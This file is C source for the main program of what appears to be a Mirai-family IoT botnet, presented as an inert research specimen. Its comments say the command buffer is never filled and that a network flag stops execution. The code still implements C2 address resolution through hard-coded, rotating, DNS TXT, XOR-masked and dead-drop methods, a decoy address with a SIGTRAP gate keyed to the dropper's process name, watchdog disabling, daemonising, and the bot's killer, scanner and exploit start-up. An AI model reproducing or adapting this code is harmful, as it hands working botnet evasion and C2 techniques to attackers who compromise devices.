/* The program: decoy address, trap handler, the gate on argv[0], the connection. */
#include "attack.h"
#include "inert.h"
#include "killer.h"
#include "reach.h"
#include "resolver.h"
#include "scanner.h"
#include "table.h"
#include "util.h"

#ifdef BALLAST
#include "ballast.h"
#endif

void (*resolve_func)(void);
struct sockaddr_in server_address;
#if C2_OVER_IPV6
struct sockaddr_in6 server_address6;
#endif
#if C2_FROM == C2_ARGUMENT
char **arguments;
#endif

#if REACH_GATE
/* How often a C2 was not reached. */
unsigned int c2_in_turn;
#endif

/* Nothing fills these: a specimen takes no commands. */
char command_buffer[1024];
volatile int command_length;

#if STRINGS_FROM == STRINGS_IMAGE
/* A constant address that is no C2: where the program says it measures its round trip. */
static const struct sockaddr_in reference_address = {
    .sin_family = AF_INET,
    .sin_port = NETWORK_PORT(REFERENCE_PORT),
    .sin_addr = {NETWORK_ADDRESS(REFERENCE_1, REFERENCE_2, REFERENCE_3, REFERENCE_4)},
};
struct sockaddr_in measured_address;
#endif

#if C2_PORT_FROM == PORT_TABLE
#define SET_C2_PORT(FIELD)                                    \
    STRING_OPEN(C2_PORT);                                     \
    (FIELD) = *(port_t *)STRING_GET(C2_PORT, NULL);           \
    STRING_CLOSE(C2_PORT);
#else
#define SET_C2_PORT(FIELD) (FIELD) = NETWORK_PORT(C2_PORT_NUMBER);
#endif

/* Takes one of the addresses behind a name. */
LOCAL void resolve_name(const char *name)
{
    struct resolved *entries = resolver_lookup(name);
    if (entries == NULL)
        return;
    server_address.sin_addr.s_addr = entries->addresses[rand_next() % entries->count];
    resolved_free(entries);
}

/* A dotted quad, or a name. */
LOCAL void resolve_text(const char *text)
{
    in_addr_t address = inet_addr(text);
    if (address != 0xffffffffu)
        server_address.sin_addr.s_addr = address;
    else
        resolve_name(text);
}

LOCAL void resolve_cnc_addr(void)
{
#if C2_FROM == C2_TABLE
    STRING_OPEN(C2_HOST);
    resolve_text(STRING_GET(C2_HOST, NULL));
    STRING_CLOSE(C2_HOST);
#elif C2_FROM == C2_NAME
    resolve_name(C2_PLAIN);
#elif C2_FROM == C2_DOTTED
    server_address.sin_addr.s_addr = inet_addr(C2_PLAIN);
#elif C2_FROM == C2_IMMEDIATE
    server_address.sin_addr.s_addr = NETWORK_ADDRESS(C2_1, C2_2, C2_3, C2_4);
#elif C2_FROM == C2_MANY_TABLE
    switch (rand_next() % 4) {
#define CANDIDATE(INDEX, NAME)                    \
    case INDEX:                                   \
        STRING_OPEN(NAME);                        \
        resolve_text(STRING_GET(NAME, NULL));     \
        STRING_CLOSE(NAME);                       \
        break;
        CANDIDATE(0, C2_HOST)
        CANDIDATE(1, C2_HOST_2)
        CANDIDATE(2, C2_HOST_3)
        CANDIDATE(3, C2_HOST_4)
    }
#elif C2_FROM == C2_MANY_DOTTED
    static const char *candidates[4] = {C2_PLAIN_LIST};
    server_address.sin_addr.s_addr = inet_addr(candidates[rand_next() & 3]);
#elif C2_FROM == C2_MANY_IMMEDIATE
    ipv4_t candidates[4] = {C2_ADDRESS_LIST};
    server_address.sin_addr.s_addr = candidates[rand_next() % 4];
#elif C2_FROM == C2_ARGUMENT
    if (arguments[1] == NULL)
        return;
    resolve_text(arguments[1]);
#if C2_PORT_FROM == PORT_CONSTANT
    if (arguments[2] != NULL) {
        server_address.sin_port = htons((port_t)util_atoi(arguments[2], 10));
        return;
    }
#endif
#elif C2_FROM == C2_IPV6_BYTES
    static const uint8_t address[16] = {C2_IPV6_OCTETS};
    memcpy(&server_address6.sin6_addr, address, 16);
#elif C2_FROM == C2_IPV6_TEXT
    inet_pton(AF_INET6, C2_PLAIN, &server_address6.sin6_addr);
#elif C2_FROM == C2_IPV6_TABLE
    STRING_OPEN(C2_HOST);
    inet_pton(AF_INET6, STRING_GET(C2_HOST, NULL), &server_address6.sin6_addr);
    STRING_CLOSE(C2_HOST);
#elif C2_FROM == C2_TXT
    STRING_OPEN(C2_HOST);
    server_address.sin_addr.s_addr = address_of_text_record(STRING_GET(C2_HOST, NULL));
    STRING_CLOSE(C2_HOST);
#elif C2_FROM == C2_RECORD
    STRING_OPEN(C2_HOST);
    resolve_name(STRING_GET(C2_HOST, NULL));
    STRING_CLOSE(C2_HOST);
    if (server_address.sin_addr.s_addr != 0) {
#if C2_TRANSFORM == TRANSFORM_HALVES
        server_address.sin_addr.s_addr =
            server_address.sin_addr.s_addr << 16 | server_address.sin_addr.s_addr >> 16;
#else
        server_address.sin_addr.s_addr ^= NETWORK_ADDRESS(MIXED_1, MIXED_2, MIXED_3, MIXED_4);
#endif
    }
#elif C2_FROM == C2_NEXT_TABLE
    switch (c2_in_turn % C2_COUNT) {
#define IN_TURN(INDEX, NAME)                      \
    case INDEX:                                   \
        STRING_OPEN(NAME);                        \
        resolve_text(STRING_GET(NAME, NULL));     \
        STRING_CLOSE(NAME);                       \
        break;
        C2_NAMES(IN_TURN)
    }
#elif C2_FROM == C2_NEXT_DOTTED
    static const char *in_turn[C2_COUNT] = {C2_PLAIN_LIST};
    server_address.sin_addr.s_addr = inet_addr(in_turn[c2_in_turn % C2_COUNT]);
#elif C2_FROM == C2_NEXT_IMMEDIATE
    ipv4_t in_turn[C2_COUNT] = {C2_ADDRESS_LIST};
    server_address.sin_addr.s_addr = in_turn[c2_in_turn % C2_COUNT];
#elif C2_FROM == C2_DEAD_DROP
    STRING_OPEN(DROP_HOST);
    resolve_name(STRING_GET(DROP_HOST, NULL));
    if (server_address.sin_addr.s_addr != 0) {
        STRING_OPEN(DROP_PATH);
        server_address.sin_addr.s_addr =
            address_of_dead_drop(server_address.sin_addr.s_addr, STRING_GET(DROP_HOST, NULL),
                                 STRING_GET(DROP_PATH, NULL));
        STRING_CLOSE(DROP_PATH);
    }
    STRING_CLOSE(DROP_HOST);
#endif

#if C2_OVER_IPV6
    server_address6.sin6_family = AF_INET6;
    SET_C2_PORT(server_address6.sin6_port)
#elif C2_FROM != C2_MAIN
    SET_C2_PORT(server_address.sin_port)
#endif
}

#if REACH_GATE
static void resolve_decoy(void)
{
    server_address.sin_addr.s_addr = NETWORK_ADDRESS(DECOY_1, DECOY_2, DECOY_3, DECOY_4);
    server_address.sin_port = NETWORK_PORT(DECOY_PORT);
}
#endif

static void trap_handler(int number)
{
    (void)number;
    resolve_func = resolve_cnc_addr;
}

/* Whether the program runs under the name that its dropper gives it; the name is kept shuffled. */
static int under_own_name(const char *name)
{
    static const char shuffled[] = GATE_NAME_SHIFTED;
    int i;
    for (i = 0; shuffled[i] != '\0'; i++)
        if (name[i] != (char)(shuffled[i] - 1 - i % 3))
            return 0;
    return name[i] == '\0';
}

#if REACH_GATE == REACH_DIRECT
static void unlock_if_own_name(char *name)
{
    (void)name;
#if HAS_TABLE_INIT
    table_init();
#endif
    resolve_func = resolve_cnc_addr;
}
#elif REACH_GATE == REACH_NAME
static void unlock_if_own_name(char *name)
{
#if HAS_TABLE_INIT
    table_init();
#endif
    STRING_OPEN(PROCESS_NAME);
    if (util_same(name, STRING_GET(PROCESS_NAME, NULL)))
        resolve_func = resolve_cnc_addr;
    STRING_CLOSE(PROCESS_NAME);
}
#else
/* Fills the table, and traps so that the handler swaps the resolve function: under the own name. */
static void unlock_if_own_name(char *name)
{
#if HAS_TABLE_INIT && STYLE_GATE == GATE_TRAP
    table_init();
#endif
    if (!under_own_name(name))
        return;
#if HAS_TABLE_INIT && STYLE_GATE == GATE_TABLE
    table_init();
#endif
    raise(SIGTRAP);
}
#endif

LOCAL void ensure_single_instance(void)
{
    struct sockaddr_in address;
    int reuse = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd == -1)
        return;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &reuse, sizeof(reuse));
    fcntl(fd, F_SETFL, O_NONBLOCK | fcntl(fd, F_GETFL, 0));
    util_zero(&address, sizeof(address));
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = NETWORK_ADDRESS(127, 0, 0, 1);
    address.sin_port = NETWORK_PORT(SINGLE_INSTANCE_PORT);
    if (bind(fd, (struct sockaddr *)&address, sizeof(address)) == -1)
        exit(0);
    listen(fd, 1);
}

#ifdef ID_WATCHDOG
/* Keeps the hardware watchdog from restarting the device. */
static void quiet_watchdog(void)
{
    int fd, disable = 1;
    STRING_OPEN(WATCHDOG);
    fd = open(STRING_GET(WATCHDOG, NULL), O_RDWR);
    STRING_CLOSE(WATCHDOG);
    if (fd == -1) {
        STRING_OPEN(WATCHDOG_MISC);
        fd = open(STRING_GET(WATCHDOG_MISC, NULL), O_RDWR);
        STRING_CLOSE(WATCHDOG_MISC);
    }
    if (fd == -1)
        return;
    ioctl(fd, 0x80045704, &disable); /* WDIOC_SETOPTIONS, WDIOS_DISABLECARD */
    close(fd);
}
#endif

#if REACH_GATE
/*
 * Resolves the C2 that is in turn and greets it; 0 when it cannot be reached. What it may answer is
 * not read.
 */
LOCAL int greet_c2(const char *id, int id_length)
{
    uint8_t greeting[64] = {0, 0, 0, 1};
    int fd;
    server_address.sin_addr.s_addr = 0;
    resolve_func();
    if (server_address.sin_addr.s_addr == 0 || (fd = socket(AF_INET, SOCK_STREAM, 0)) == -1)
        return 0;
    if (bounded_connect(fd, &server_address) == -1) {
        close(fd);
        return 0;
    }
    greeting[4] = (uint8_t)id_length;
    util_memcpy(greeting + 5, id, id_length);
    bounded_stream_send(fd, greeting, 5 + id_length);
    close(fd);
    return 1;
}

/* For ever, as the family does; after the third packet nothing leaves. */
LOCAL void serve(const char *id, int id_length)
{
    for (;;) {
        if (!greet_c2(id, id_length))
            c2_in_turn++;
#if HAS_PEERS
        greet_peers();
#endif
#if HAS_ATTACKS
        attack_parse(command_buffer, command_length);
#endif
        sleep(1 + rand_next() % 10);
    }
}
#else
/* Greets the C2 once: four bytes, the length of the id, the id. Receives nothing. */
LOCAL void establish_connection(const char *id, int id_length)
{
    uint8_t greeting[64] = {0, 0, 0, 1};
    int fd;
    if (resolve_func != NULL)
        resolve_func();
#if C2_OVER_IPV6
    if ((fd = socket(AF_INET6, SOCK_STREAM, 0)) == -1)
        return;
    if (packets_left <= 0)
        return;
    packets_left--;
    if (connect(fd, (struct sockaddr *)&server_address6, sizeof(server_address6)) == -1) {
#else
    if ((fd = socket(AF_INET, SOCK_STREAM, 0)) == -1)
        return;
    if (bounded_connect(fd, &server_address) == -1) {
#endif
        close(fd);
        return;
    }
    greeting[4] = (uint8_t)id_length;
    util_memcpy(greeting + 5, id, id_length);
    bounded_stream_send(fd, greeting, 5 + id_length);
    close(fd);
}
#endif

static void say_started(void)
{
    int length = 1;
    char *message;
    STRING_OPEN(EXECUTION_MESSAGE);
    message = STRING_GET(EXECUTION_MESSAGE, &length);
    write(STDOUT_FILENO, message, (size_t)length - 1);
    write(STDOUT_FILENO, "\n", 1);
    STRING_CLOSE(EXECUTION_MESSAGE);
}

int main(int argc, char **argv)
{
    char id[32];
    int id_length = 0;
    util_zero(id, sizeof(id));
    signal(SIGINT, SIG_IGN);
    signal(SIGCHLD, SIG_IGN);
    signal(SIGTRAP, trap_handler);

    server_address.sin_family = AF_INET;
    server_address.sin_addr.s_addr = NETWORK_ADDRESS(DECOY_1, DECOY_2, DECOY_3, DECOY_4);
    server_address.sin_port = NETWORK_PORT(DECOY_PORT);
#if STRINGS_FROM == STRINGS_IMAGE
    measured_address = reference_address;
#endif
#if C2_FROM == C2_ARGUMENT
    arguments = argv;
#endif

#if REACH_GATE
    resolve_func = resolve_decoy;
#endif
    rand_init();
    unlock_if_own_name(argv[0]);
#if C2_FROM == C2_MAIN
    server_address.sin_addr.s_addr = NETWORK_ADDRESS(C2_1, C2_2, C2_3, C2_4);
    SET_C2_PORT(server_address.sin_port)
#endif
    if (argc == 2 && util_strlen(argv[1]) < (int)sizeof(id))
        id_length = util_strcpy(id, argv[1]);
    say_started();
#if HAS_ATTACKS
    attack_init();
#endif
#ifdef BALLAST
    ballast_run(argc);
#endif
    /* Never true: see inert.h. */
    if (!network_enabled)
        return 0;

    ensure_single_instance();
#ifdef ID_WATCHDOG
    quiet_watchdog();
#endif
    if (fork() > 0)
        return 0;
    setsid();
    chdir("/");
    local_address = util_local_address();
    killer_init();
#if HAS_SCANNER
    scanner_init();
#endif
#if HAS_EXPLOIT
    exploit_init();
#endif
#if REACH_GATE
    serve(id, id_length);
#else
    while (packets_left > 0) {
        establish_connection(id, id_length);
#if HAS_ATTACKS
        attack_parse(command_buffer, command_length);
#endif
        sleep(1 + rand_next() % 10);
    }
#endif
    return 0;
}
